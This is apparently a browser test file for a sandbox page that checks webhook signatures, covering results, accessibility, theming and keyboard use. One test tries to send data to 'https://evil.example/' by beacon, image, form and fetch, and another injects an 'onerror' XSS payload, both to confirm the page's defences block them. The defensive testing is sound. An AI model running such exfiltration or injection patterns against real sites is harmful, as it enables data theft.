import { signBody } from '@screening-webhooks/core';
import { type Sandbox, startSandbox } from '@screening-webhooks/sandbox';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { describeInBrowser } from '../test/support/browser.js';
import { expectAccessible } from '../test/support/expect-accessible.js';
import { press, tabTo, type } from '../test/support/keyboard.js';
import { checkOn, openCheckPage, resultOn } from '../test/support/open-check-page.js';
import { openDashboard } from '../test/support/open-dashboard.js';
import { openSandbox } from '../test/support/started-sandbox.js';

const secret = 'whsec_of_the_receiver';
const body = '{"id":"evt_1","type":"document_verification.completed","data":{"name":"Zoë"}}';
const SIGNED = Date.parse('2026-11-21T03:04:00Z') / 1000;
const arrived = '2026-11-21T03:04:02Z';

describeInBrowser('the page that checks a delivery', () => {
  let sandbox: Sandbox;
  let header: string;
  beforeAll(async () => {
    sandbox = await startSandbox();
    header = await signBody(body, { secret, timestamp: SIGNED });
  });
  afterAll(() => sandbox.close());

  const captured = (change: object = {}): string =>
    JSON.stringify({
      version: 1,
      receivedAt: arrived.replace('Z', '.000Z'),
      method: 'POST',
      path: '/webhooks/screening',
      headers: [['Service-Signature', header]],
      body: Buffer.from(body).toString('base64'),
      status: 401,
      code: 'signature_mismatch',
      ...change,
    });

  test('says that a genuine delivery verifies, and what is wrong with another', async () => {
    const { page } = await openCheckPage(sandbox);
    const right = { header, body, secret, arrived };
    expect(await checkOn(page, right)).toContain('It verifies: signed 2 s before it arrived');
    expect(
      await checkOn(page, { ...right, header: `Host: a\nService-Signature: ${header}` }),
    ).toContain('It verifies');

    const otherSecret = await checkOn(page, { ...right, secret: 'whsec_of_another' });
    expect(otherSecret).toContain('a receiver answers 401 signature_mismatch');
    expect(otherSecret).toContain('To mend it: Compare the configured secret');
    expect(otherSecret).toContain('unknown_secret_or_body');

    const spaced = await checkOn(page, { ...right, body: body.replace(',', ', ') });
    expect(spaced).toContain('a receiver answers 401 signature_mismatch');
    expect(spaced).toContain('To mend it: Verify the bytes as received');
    expect(spaced).toContain('body_reserialized');
    expect(spaced).toContain('With this undone, the signature matches.');

    const { arrived: _, ...old } = right;
    const stale = await checkOn(page, old);
    expect(stale).toContain('a receiver answers 400 timestamp_too_old');
    expect(stale).toContain('delivery_stale');
    expect(stale).toContain('Enter when it arrived');

    // A result is never shown beside other input.
    await page.getByLabel('Headers').pressSequentially(' ');
    await page.getByText('The result appears here.').waitFor();
  });

  test('sends nothing, and cannot', async () => {
    const { page, sent, blocked, violations } = await openCheckPage(sandbox);
    await page.waitForLoadState('networkidle');
    const loaded = sent();
    expect(loaded.map((url) => url.slice(sandbox.url.length).replace(/-\w{16}/, ''))).toEqual([
      '/check',
      '/check/theme.js',
      '/check/check.css',
      '/check/check.js',
    ]);
    await checkOn(page, { header, body, secret, arrived });
    await checkOn(page, { header, body, secret: 'whsec_of_another' });
    expect(violations).toEqual([]);
    expect(await page.evaluate(() => document.cookie + JSON.stringify(localStorage))).toBe('{}');

    const addresses = [`${sandbox.url}/sink/a`, 'https://evil.example/'];
    for (const address of addresses) {
      const failure = await page.evaluate(async (url) => {
        navigator.sendBeacon(url, 'a');
        new Image().src = url;
        // A new form, without the page's listener that prevents its submission.
        const form = document.createElement('form');
        form.action = url;
        document.body.append(form);
        form.submit();
        return fetch(url, { method: 'POST' }).then(
          () => 'answered',
          ({ name }: Error) => name,
        );
      }, address);
      expect(failure).toBe('TypeError');
    }
    await expect
      .poll(() => new Set(violations))
      .toEqual(new Set(['connect-src', 'img-src', 'form-action']));
    const markup = page.evaluate(() => {
      document.body.innerHTML = '<img>';
    });
    await expect(markup).rejects.toThrow(/TrustedHTML/);
    await expect.poll(blocked).toEqual(addresses);
    expect(sent()).toEqual(loaded);
  });

  test('is as dark as the dashboard is, and leads back to it', async () => {
    const { page, visit } = await openDashboard(sandbox);
    await page.getByRole('button', { name: 'Dark' }).click();
    await page.getByRole('link', { name: 'Check a delivery' }).click();
    await page.getByRole('heading', { name: 'Check a delivery' }).waitFor();
    const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    expect(await ground()).toBe('rgb(14, 16, 20)');
    const banner = page.getByRole('banner');
    await banner.getByText('Screening sandbox').waitFor();
    expect(await banner.getByRole('link', { name: 'API reference' }).getAttribute('href')).toBe(
      '/docs',
    );
    await banner.getByRole('link', { name: 'Back to the dashboard' }).click();
    await page.getByRole('button', { name: 'Light' }).click();
    await visit('/check');
    expect(await ground()).toBe('rgb(246, 247, 249)');
  });

  test('shows text of others as text', async () => {
    const { page, sent, violations } = await openCheckPage(sandbox);
    await page.waitForLoadState('networkidle');
    const loaded = sent();
    const markup = '<img src="/evil" onerror="alert(1)"><b>bold</b>';
    await checkOn(page, { header: `X: ${markup}`, body: markup, secret: markup });
    await page.getByText('Fill in from a capture').click();
    await page.getByLabel('Capture', { exact: true }).fill(captured({ code: markup }));
    await page.getByText('Filled in from delivery 1 of 1 in the capture.').waitFor();
    await page
      .getByLabel('Capture', { exact: true })
      .fill(`${captured({ code: markup })}\n`.repeat(2));
    await page.getByLabel('Delivery').selectOption({ index: 1 });
    expect(await page.locator('img, b').count()).toBe(0);
    expect([sent(), violations]).toEqual([loaded, []]);
  });

  test('is used without a mouse, from a capture to the result', async () => {
    const { page } = await openCheckPage(sandbox);
    await press(page, page.locator('summary'));
    // Inserted at once: a half-typed line would be invalid.
    await tabTo(page, page.getByLabel('Capture', { exact: true }));
    await page.keyboard.insertText(`${captured()}\n${captured({ status: 200 })}`);
    await page.getByText('Filled in from delivery 1 of 2 in the capture.').waitFor();
    await tabTo(page, page.getByLabel('Delivery'));
    await page.keyboard.press('ArrowDown');
    await page.getByText('Filled in from delivery 2 of 2 in the capture.').waitFor();
    await press(page, page.getByRole('button', { name: 'Check' }));
    await page.getByText('Enter the signing secret.').waitFor();
    const field = page.getByLabel('Signing secret');
    expect(await field.evaluate((each) => each === document.activeElement)).toBe(true);
    expect(await field.getAttribute('type')).toBe('password');
    await type(page, field, secret);
    await page.keyboard.press('Enter');
    expect(await resultOn(page)).toContain('It verifies: signed 2 s before it arrived');
    await press(page, page.getByRole('button', { name: 'Show' }));
    expect(await field.getAttribute('type')).toBe('text');
  });

  test('takes the exact bytes of a file, which a pasted body loses', async () => {
    const { page } = await openCheckPage(sandbox);
    const bytes = Buffer.concat([Buffer.from(`${body}\r\n`), Buffer.from([0, 0xff])]);
    const signed = await signBody(bytes, { secret, timestamp: SIGNED });
    await checkOn(page, { header: signed, body: bytes.toString(), secret, arrived });
    const pasted = await resultOn(page);
    expect(pasted).toContain('body_replacement_characters');
    expect(pasted).toContain('The body was pasted');
    await page
      .getByLabel('Or a file with the exact bytes')
      .setInputFiles({ name: 'body.bin', mimeType: 'application/octet-stream', buffer: bytes });
    await page.getByText('of body.bin.').waitFor();
    await page.getByRole('button', { name: 'Check' }).click();
    expect(await resultOn(page)).toContain('It verifies');
  });

  test('names an invalid field, and an invalid capture', async () => {
    const { page } = await openCheckPage(sandbox);
    await page.getByLabel('Arrived at').fill('yesterday');
    await page.getByLabel('Tolerance in seconds').fill('5 min');
    await page.getByRole('button', { name: 'Check' }).click();
    await page.getByText('Enter a date and time with an offset').waitFor();
    await page.getByText('Enter seconds, such as 300.').waitFor();
    await page.getByText('Fill in from a capture').click();
    await page.getByLabel('Capture', { exact: true }).fill('curl https://example.com');
    await page.getByText('Line 1 is not a captured delivery: it is not JSON.').waitFor();
    await expectAccessible(page);
  });

  test('says that it can check nothing over plain HTTP', async () => {
    const { page } = await openCheckPage(sandbox, { secure: false });
    await page.getByRole('alert').getByText('it was loaded over plain HTTP').waitFor();
    await page.getByLabel('Signing secret').fill(secret);
    await page.getByRole('button', { name: 'Check' }).click();
    await page.getByText('The result appears here.').waitFor();
    await expectAccessible(page);
  });

  test.for([390, 1280])('is accessible at a width of %d px', async (width) => {
    const { page } = await openCheckPage(sandbox, { width });
    expect(await page.getByRole('alert').count()).toBe(0);
    await expectAccessible(page);
    await checkOn(page, { header, body, secret, arrived });
    await expectAccessible(page);
    await checkOn(page, { header, body: body.replace(',', ', '), secret: `${secret} ` });
    await page.getByText('Fill in from a capture').click();
    await page.getByLabel('Capture', { exact: true }).fill(`${captured()}\n${captured()}`);
    await page.getByRole('button', { name: 'Check' }).click();
    await resultOn(page);
    await expectAccessible(page);
  });
});

describeInBrowser('a delivery that has failed', () => {
  test('leads to the page with all that was sent, and without the secret', async () => {
    let status = 401;
    const { sandbox, page, visit } = await openSandbox({
      deliverTo: () => new Response(null, { status }),
    });
    await sandbox.trigger({ type: 'document_verification.completed' });
    await sandbox.clock.settle();
    await visit('/deliveries');
    await page.getByRole('link', { name: 'document_verification.completed' }).click();
    const link = page.getByRole('link', { name: 'Check its signature' });
    const address = (await link.getAttribute('href')) ?? '';
    const own = sandbox.secrets[0] ?? '';
    expect(own).toMatch(/^whsec_/);
    for (const each of [address, decodeURIComponent(address), atobs(address)]) {
      expect(each).not.toContain(own);
      expect(each).not.toContain('whsec_');
    }

    const opening = page.context().waitForEvent('page');
    await link.click();
    const opened = await opening;
    await opened.getByText('Filled in from the link. Now its signing secret.').waitFor();
    // The data of the delivery is not in the URL, and so in no history or bookmark.
    expect(opened.url()).toBe(`${sandbox.url}/check`);
    const field = opened.getByLabel('Signing secret');
    expect(await field.evaluate((each) => each === document.activeElement)).toBe(true);
    expect(await field.inputValue()).toBe('');
    await field.fill(own);
    await opened.keyboard.press('Enter');
    expect(await resultOn(opened)).toContain('It verifies');
    await field.fill('whsec_of_another');
    await opened.keyboard.press('Enter');
    expect(await resultOn(opened)).toContain('unknown_secret_or_body');

    status = 200;
    await page.getByRole('button', { name: 'Deliver now' }).click();
    await page.getByText(/^Delivered at/).waitFor();
    expect(await link.count()).toBe(0);
  });

  test('has no link when a fault may have changed what was sent', async () => {
    const { sandbox, page, visit } = await openSandbox({
      deliverTo: () => new Response(null, { status: 401 }),
    });
    await sandbox.fault({ kind: 'wrong_secret' });
    await sandbox.trigger({ type: 'document_verification.completed' });
    await sandbox.clock.settle();
    await visit('/deliveries');
    await page.getByRole('link', { name: 'document_verification.completed' }).click();
    await page.getByRole('region', { name: 'Outcome' }).getByText('401').first().waitFor();
    expect(await page.getByRole('link', { name: 'Check its signature' }).count()).toBe(0);
  });
});

/** The base64 values in the fragment of a URL, decoded. */
function atobs(address: string): string {
  return [...new URLSearchParams(address.split('#')[1]).values()]
    .map((value) => Buffer.from(value, 'base64').toString())
    .join('\n');
}
